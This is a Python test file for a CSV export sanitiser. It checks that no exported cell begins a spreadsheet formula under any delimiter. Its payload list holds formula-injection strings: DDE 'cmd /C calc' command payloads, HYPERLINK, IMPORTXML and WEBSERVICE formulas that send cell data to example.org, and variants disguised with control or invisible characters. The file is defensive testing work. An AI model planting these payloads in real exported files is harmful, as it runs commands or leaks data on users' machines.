"""No cell of an exported table begins a formula, whichever program opens it and however it splits the lines."""

import csv
import io
import random
import unicodedata

import pytest

from navigator.cases.hand_over.cells import GUARD, STARTS, begins_formula, safe, table

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=HYPERLINK(\"https://example.org/?\"&A1,\"open\")",
    "=cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"https://example.org\",A1),\"//a\")",
    "=WEBSERVICE(\"https://example.org\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "\x0b=1+1",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u2028=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe66\u200b1",
    "\u22121",
    "\"=1+1\"",
    "\"\"=1+1",
    "'=1+1",
    "a;=1+1",
    "a,=1+1",
    "a|=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    "a,\"=1+1\"",
    "a;\"\"@SUM(1)",
    "a; -1",
    "a\",\"=1+1",
    "a\";=1+1",
    "a\r\n\"=1+1\"",
    "-",
    "=",
    "--",
    "=-@+",
)  # fmt: skip
HARMLESS = ("", "none", "26 to 64", "a-b", "1 = 1", "c@example.org", "He said: no", "'", "Can't cut down; 2 tries")


def cells_seen(file: bytes, delimiter: str) -> list[str]:
    """Every cell a spreadsheet finds when it splits lines at this letter."""
    text = file.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet could take a cell for a formula: its first letter that is seen says so."""
    seen = (letter for letter in cell if not letter.isspace() and unicodedata.category(letter) not in ("Cc", "Cf"))
    return next(seen, " ") in STARTS


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"], ids=ascii)
def test_every_payload_is_made_harmless(payload: str, delimiter: str) -> None:
    file = table([("first", payload, "last"), (payload, "second"), ("x", payload)])

    assert [cell for cell in cells_seen(file, delimiter) if is_formula(cell)] == []


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", "\0", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"], ids=ascii
)
def test_each_dangerous_start_is_guarded_before_any_text(start: str) -> None:
    for text in ("1+1", "A1", "SUM(A1:A9)", " ", "=2"):
        cell = safe(start + text)

        assert not is_formula(cell)
        assert not any(unicodedata.category(letter) == "Cc" for letter in cell)


def test_ten_thousand_made_up_texts_hold_no_formula() -> None:
    dice = random.Random(7)
    letters = [*STARTS, *"\t\r\n\0;,|\"' a1(", "\u200b", "\ufeff", "\u00a0", "\u201c"]
    texts = ["".join(dice.choices(letters, k=dice.randint(1, 9))) for _ in range(10_000)]

    file = table(zip(texts[::2], texts[1::2], strict=True))

    for delimiter in ",;\t|":
        assert [cell for cell in cells_seen(file, delimiter) if is_formula(cell)] == []


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert safe(text) == text


def test_the_guard_is_an_apostrophe_in_front() -> None:
    assert safe("=1+1") == GUARD + "=1+1"
    assert begins_formula("=1+1")


def test_a_table_is_read_back_cell_by_cell() -> None:
    rows = [['a "quoted" word', "two, words"], ["", "last"]]

    assert list(csv.reader(io.StringIO(table(rows).decode("utf-8-sig"), newline=""))) == rows
